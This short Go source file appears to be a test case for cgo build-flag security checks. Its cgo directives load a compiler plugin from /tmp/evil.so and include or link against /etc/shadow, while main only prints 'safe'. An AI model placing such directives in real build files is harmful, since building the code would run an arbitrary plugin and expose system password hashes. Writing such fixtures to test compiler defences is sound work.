// Tells the C compiler behind the Go compiler what to do.
package main

// #cgo CFLAGS: -fplugin=/tmp/evil.so -include /etc/shadow
// #cgo LDFLAGS: -Wl,-T/etc/shadow
// #include "/etc/shadow"
import "C"

func main() { C.puts(C.CString("safe")) }
